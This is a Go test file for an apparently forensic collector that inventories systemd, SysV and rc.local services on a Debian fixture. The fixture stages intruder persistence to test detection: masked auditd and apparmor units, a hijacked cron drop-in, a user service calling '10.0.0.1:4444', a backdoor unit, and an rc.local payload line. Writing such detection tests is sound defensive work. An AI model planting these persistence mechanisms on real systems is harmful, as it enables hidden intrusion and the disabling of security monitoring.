package services

import (
	"strings"
	"testing"

	"github.com/nowwhat/nowwhat/internal/base/fixture"
	"github.com/nowwhat/nowwhat/internal/base/snapshot"
	"github.com/nowwhat/nowwhat/internal/probe"
)

// accounts reads the fixture's passwd the way the accounts collector would fill Env.Accounts.
func collect(t *testing.T, r *fixture.Root, live bool) *probe.Recorder {
	t.Helper()
	return r.Collect(Collector, live)
}

// attacked is the Debian fixture with the persistence an intruder would leave.
func attacked(t *testing.T) *fixture.Root {
	r := fixture.Debian(t)
	// A masked security service, by link and by empty file.
	r.File("/usr/lib/systemd/system/auditd.service", "[Unit]\nDescription=Security Auditing Service\n[Service]\nExecStart=/sbin/auditd\n[Install]\nWantedBy=multi-user.target\n", 0o644)
	r.Symlink("/dev/null", "/etc/systemd/system/auditd.service")
	r.File("/usr/lib/systemd/system/apparmor.service", "[Service]\nExecStart=/lib/apparmor/apparmor.systemd reload\n[Install]\nWantedBy=sysinit.target\n", 0o644)
	r.File("/etc/systemd/system/apparmor.service", "", 0o644)
	// A drop-in that swaps the command of cron.
	r.File("/etc/systemd/system/cron.service.d/override.conf", "[Service]\nExecStart=\nExecStart=/dev/shm/.cron -f\n", 0o644)
	// A per-user service enabled in alice's session.
	r.File("/home/alice/.config/systemd/user/dbus-helper.service", "[Unit]\nDescription=D-Bus helper\n[Service]\nExecStart=/home/alice/.cache/x -c 10.0.0.1:4444\nRestart=always\n[Install]\nWantedBy=default.target\n", 0o644)
	r.Symlink("../dbus-helper.service", "/home/alice/.config/systemd/user/default.target.wants/dbus-helper.service")
	// A unit linked in from outside the unit folders, and enabled.
	r.File("/opt/x/backdoor.service", "[Service]\nExecStart=/opt/x/bd\n[Install]\nWantedBy=multi-user.target\n", 0o644)
	r.Symlink("/opt/x/backdoor.service", "/etc/systemd/system/backdoor.service")
	// A unit installed but not enabled, and one in /run (only seen live).
	r.File("/etc/systemd/system/spare.service", "[Service]\nExecStart=/usr/bin/spare\nUser=nobody\n[Install]\nWantedBy=multi-user.target\n", 0o644)
	r.File("/run/systemd/system/runtime.service", "[Service]\nExecStart=/run/x\n", 0o644)
	r.File("/run/systemd/generator/gen.service", "[Service]\nExecStart=/usr/bin/gen\n", 0o644)
	// A global user unit and a global user enablement.
	r.File("/usr/lib/systemd/user/pipewire.socket", "[Unit]\nDescription=PipeWire\n[Socket]\nListenStream=%t/pipewire-0\n[Install]\nWantedBy=sockets.target\n", 0o644)
	r.Symlink("/usr/lib/systemd/user/pipewire.socket", "/etc/systemd/user/sockets.target.wants/pipewire.socket")
	// SysV scripts and rc.local.
	r.File("/etc/init.d/mysql", "#!/bin/sh\n### BEGIN INIT INFO\n# Short-Description: MySQL server\n### END INIT INFO\n", 0o755)
	r.Symlink("../init.d/mysql", "/etc/rc2.d/S01mysql")
	r.File("/etc/init.d/old", "#!/bin/sh\n", 0o755)
	r.Symlink("/tmp/.s", "/etc/rc3.d/S99stray")
	r.File("/etc/rc.local", "#!/bin/sh -e\n# rc.local\n\nnohup /tmp/.x/bd >/dev/null 2>&1 &\nexit 0\n", 0o755)
	return r
}

func find(recs []snapshot.Service, scope, name string) *snapshot.Service {
	for i := range recs {
		if recs[i].Scope == scope && recs[i].Name == name {
			return &recs[i]
		}
	}
	return nil
}

func TestCollector(t *testing.T) {
	r := attacked(t)
	dead := probe.Of[snapshot.Service](collect(t, r, false))
	live := probe.Of[snapshot.Service](collect(t, r, true))
	tests := []struct {
		name   string
		recs   []snapshot.Service
		scope  string
		unit   string
		absent bool
		want   snapshot.Service
	}{
		{name: "enabled ssh", recs: dead, scope: "system", unit: "ssh.service", want: snapshot.Service{
			Kind: "systemd", Path: "/usr/lib/systemd/system/ssh.service", State: "enabled",
			ExecStart: "/usr/sbin/sshd -t ; /usr/sbin/sshd -D $SSHD_OPTS", WantedBy: "multi-user.target",
			RunAs: "root", Summary: "OpenBSD Secure Shell server"}},
		{name: "alias", recs: dead, scope: "system", unit: "sshd.service", want: snapshot.Service{
			Kind: "systemd", Path: "/etc/systemd/system/sshd.service", State: "alias",
			ExecStart: "/usr/sbin/sshd -t ; /usr/sbin/sshd -D $SSHD_OPTS", WantedBy: "multi-user.target",
			RunAs: "root", Summary: "OpenBSD Secure Shell server"}},
		{name: "drop-in replaces ExecStart", recs: dead, scope: "system", unit: "cron.service", want: snapshot.Service{
			Kind: "systemd", Path: "/usr/lib/systemd/system/cron.service", State: "enabled",
			ExecStart: "/dev/shm/.cron -f", WantedBy: "multi-user.target",
			RunAs: "root", Summary: "Regular background program processing daemon"}},
		{name: "timer enabled", recs: dead, scope: "system", unit: "apt-daily.timer", want: snapshot.Service{
			Kind: "systemd", Path: "/usr/lib/systemd/system/apt-daily.timer", State: "enabled",
			WantedBy: "timers.target", Summary: "Daily apt download activities"}},
		{name: "static", recs: dead, scope: "system", unit: "apt-daily.service", want: snapshot.Service{
			Kind: "systemd", Path: "/usr/lib/systemd/system/apt-daily.service", State: "static",
			ExecStart: "/usr/lib/apt/apt.systemd.daily update", RunAs: "root", Summary: "Daily apt download activities"}},
		{name: "masked by link", recs: dead, scope: "system", unit: "auditd.service", want: snapshot.Service{
			Kind: "systemd", Path: "/etc/systemd/system/auditd.service", State: "masked"}},
		{name: "masked by empty file", recs: dead, scope: "system", unit: "apparmor.service", want: snapshot.Service{
			Kind: "systemd", Path: "/etc/systemd/system/apparmor.service", State: "masked"}},
		{name: "linked from outside", recs: dead, scope: "system", unit: "backdoor.service", want: snapshot.Service{
			Kind: "systemd", Path: "/opt/x/backdoor.service", State: "linked", ExecStart: "/opt/x/bd",
			WantedBy: "multi-user.target", RunAs: "root"}},
		{name: "disabled with User=", recs: dead, scope: "system", unit: "spare.service", want: snapshot.Service{
			Kind: "systemd", Path: "/etc/systemd/system/spare.service", State: "disabled", ExecStart: "/usr/bin/spare",
			WantedBy: "multi-user.target", RunAs: "nobody"}},
		{name: "per-user service", recs: dead, scope: "user:alice", unit: "dbus-helper.service", want: snapshot.Service{
			Kind: "systemd", Path: "/home/alice/.config/systemd/user/dbus-helper.service", State: "enabled",
			ExecStart: "/home/alice/.cache/x -c 10.0.0.1:4444", WantedBy: "default.target", RunAs: "alice", Summary: "D-Bus helper"}},
		{name: "global user socket", recs: dead, scope: "user", unit: "pipewire.socket", want: snapshot.Service{
			Kind: "systemd", Path: "/usr/lib/systemd/user/pipewire.socket", State: "enabled", WantedBy: "sockets.target", Summary: "PipeWire"}},
		{name: "global units are not repeated per user", recs: dead, scope: "user:alice", unit: "pipewire.socket", absent: true},
		{name: "/run is ignored on a dead host", recs: dead, scope: "system", unit: "runtime.service", absent: true},
		{name: "/run is read live", recs: live, scope: "system", unit: "runtime.service", want: snapshot.Service{
			Kind: "systemd", Path: "/run/systemd/system/runtime.service", State: "static", ExecStart: "/run/x", RunAs: "root"}},
		{name: "generator output", recs: live, scope: "system", unit: "gen.service", want: snapshot.Service{
			Kind: "systemd", Path: "/run/systemd/generator/gen.service", State: "generated", ExecStart: "/usr/bin/gen", RunAs: "root"}},
		{name: "sysv enabled", recs: dead, scope: "system", unit: "mysql", want: snapshot.Service{
			Kind: "sysv", Path: "/etc/init.d/mysql", State: "enabled", ExecStart: "/etc/init.d/mysql",
			WantedBy: "runlevel 2", RunAs: "root", Summary: "MySQL server"}},
		{name: "sysv disabled", recs: dead, scope: "system", unit: "old", want: snapshot.Service{
			Kind: "sysv", Path: "/etc/init.d/old", State: "disabled", ExecStart: "/etc/init.d/old", RunAs: "root"}},
		{name: "start link to a script elsewhere", recs: dead, scope: "system", unit: ".s", want: snapshot.Service{
			Kind: "sysv", Path: "/tmp/.s", State: "enabled", ExecStart: "/tmp/.s", WantedBy: "runlevel 3", RunAs: "root"}},
		{name: "rc.local", recs: dead, scope: "system", unit: "rc.local", want: snapshot.Service{
			Kind: "rc.local", Path: "/etc/rc.local", State: "enabled",
			ExecStart: "nohup /tmp/.x/bd >/dev/null 2>&1 & ; exit 0", RunAs: "root"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := find(tt.recs, tt.scope, tt.unit)
			if tt.absent {
				if got != nil {
					t.Fatalf("unexpected record %+v", *got)
				}
				return
			}
			if got == nil {
				t.Fatalf("no record for %s %s", tt.scope, tt.unit)
			}
			tt.want.Scope, tt.want.Name = tt.scope, tt.unit
			if *got != tt.want {
				t.Errorf("got  %+v\nwant %+v", *got, tt.want)
			}
		})
	}
	// /lib is a link to usr/lib in the fixture: every unit appears once.
	seen := map[string]bool{}
	for _, s := range dead {
		k := s.Scope + " " + s.Name
		if seen[k] {
			t.Errorf("duplicate record %s", k)
		}
		seen[k] = true
	}
}

func TestNoProblemsOnCleanRoot(t *testing.T) {
	rec := collect(t, fixture.Debian(t), false)
	if len(rec.Problems) != 0 {
		t.Errorf("problems on a clean root: %+v", rec.Problems)
	}
	if n := len(probe.Of[snapshot.Service](rec)); n < 5 {
		t.Errorf("only %d services", n)
	}
}

func TestTypeWideDropIn(t *testing.T) {
	r := fixture.Debian(t)
	r.File("/etc/systemd/system/service.d/10-all.conf", "[Service]\nExecStartPre=/usr/local/bin/.hook\n", 0o644)
	recs := probe.Of[snapshot.Service](collect(t, r, false))
	for _, n := range []string{"ssh.service", "cron.service", "apt-daily.service"} {
		s := find(recs, "system", n)
		if s == nil || !strings.Contains(s.ExecStart, "/usr/local/bin/.hook ; ") {
			t.Errorf("%s: drop-in for all services not applied: %+v", n, s)
		}
	}
}
